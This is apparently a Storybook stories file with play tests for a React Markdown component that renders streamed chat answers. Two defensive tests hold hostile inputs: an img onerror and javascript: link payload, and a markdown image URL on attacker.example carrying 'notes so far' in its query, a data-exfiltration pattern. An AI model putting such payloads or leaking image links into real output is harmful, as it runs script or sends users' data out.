import { scenarios } from '@chatstream/mocks';
import { common, createLowlight } from 'lowlight';
import { expect } from 'storybook/test';
import preview from '../../../../.storybook/preview.tsx';
// oxlint-disable-next-line import/no-unassigned-import -- the colours of highlight.js's classes
import '../code-colors.css';
import { CodeBlock } from './code-block.tsx';
import { highlightFromHast } from './highlight-from-hast.tsx';
import { Markdown } from './markdown.tsx';

const answer = scenarios.longAnswer.expectedText;
const fenceOpen = answer.indexOf('```ts');

const meta = preview.meta({ component: Markdown, title: 'Markdown/Markdown' });

/** A complete answer: heading, emphasis, a list and a code block with a Copy button. */
export const Complete = meta.story({
  args: { text: answer },
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('heading', { name: 'Why streaming matters' })).toBeVisible();
    await expect(canvas.getAllByRole('listitem')).toHaveLength(3);
    await expect(canvas.getByRole('button', { name: 'Copy ts' })).toBeVisible();
  },
});

/** Mid-stream inside a code fence: the open fence already renders as code, no stray backticks. */
export const StreamingOpenFence = meta.story({
  args: { text: answer.slice(0, fenceOpen + 30), streaming: true },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('[data-slot="code-block"]')).not.toBeNull();
    await expect(canvasElement.textContent).not.toContain('```');
  },
});

/** Mid-stream inside emphasis and a list item: markers are not shown raw. */
export const StreamingOpenEmphasis = meta.story({
  args: { text: 'Streaming shows the answer **as it is wri', streaming: true },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.textContent).not.toContain('**');
  },
});

/** Raw HTML is shown as text, and `javascript:` links are neutralised. */
export const Unsafe = meta.story({
  args: {
    text: 'A <img src=x onerror="alert(1)"> tag and a [link](javascript:alert(1)) and a [safe one](https://example.com).',
  },
  play: async ({ canvasElement, canvas }) => {
    await expect(canvasElement.querySelector('img')).toBeNull();
    await expect(canvas.getByRole('link', { name: 'safe one' })).toHaveAttribute(
      'href',
      'https://example.com',
    );
    await expect(canvasElement.querySelector('a[href^="javascript"]')).toBeNull();
  },
});

/**
 * An image from another site is not loaded (its URL could carry what the model read): a framed link
 * a person may open instead. `allowImage` lets chosen sources load.
 */
export const ExternalImage = meta.story({
  args: { text: 'The chart: ![Quarterly revenue](https://attacker.example/chart.png?q=notes+so+far)' },
  play: async ({ canvasElement, canvas }) => {
    await expect(canvasElement.querySelector('img')).toBeNull();
    await expect(canvas.getByRole('link', { name: 'Quarterly revenue' })).toHaveAttribute(
      'title',
      'Image from attacker.example, not loaded',
    );
  },
});

const lowlight = createLowlight(common);
const highlight = highlightFromHast((code, lang) =>
  lowlight.registered(lang) ? lowlight.highlight(lang, code) : undefined,
);

/**
 * Code coloured by lowlight (highlight.js grammars) through `highlightFromHast`, with
 * `code-colors.css`: React elements, no HTML string; Copy still copies the code as written.
 */
export const Highlighted = meta.story({
  args: {
    text: answer.slice(fenceOpen),
    highlight,
  },
  play: async ({ canvasElement }) => {
    const code = canvasElement.querySelector('code')!;
    await expect(code.textContent).toBe(
      'for await (const text of stream.textStream) {\n  output.append(text);\n}',
    );
    const keyword = code.querySelector('.hljs-keyword')!;
    await expect(keyword.textContent).toBe('for');
    await expect(getComputedStyle(keyword).color).not.toBe(getComputedStyle(code).color);
  },
});

/**
 * Mid-stream inside the highlighted code block: the lines so far are coloured already, the line being
 * written too, with no plain-text flash before it.
 */
export const HighlightedStreaming = meta.story({
  args: {
    text: answer.slice(fenceOpen, answer.indexOf('output.append') + 'output.ap'.length),
    streaming: true,
    highlight,
  },
  play: async ({ canvasElement }) => {
    const block = canvasElement.querySelector('[data-slot="code-block"]')!;
    await expect(block.getAttribute('data-state')).toBe('streaming');
    await expect(block.querySelector('code')!.textContent).toBe(
      'for await (const text of stream.textStream) {\n  output.ap',
    );
    await expect(block.querySelectorAll('.hljs-keyword')).toHaveLength(4);
  },
});

/** The code block on its own. */
export const Code = meta.story({
  render: () => (
    <CodeBlock code={'for await (const text of stream.textStream) {\n  output.append(text);\n}'} lang="ts" />
  ),
});
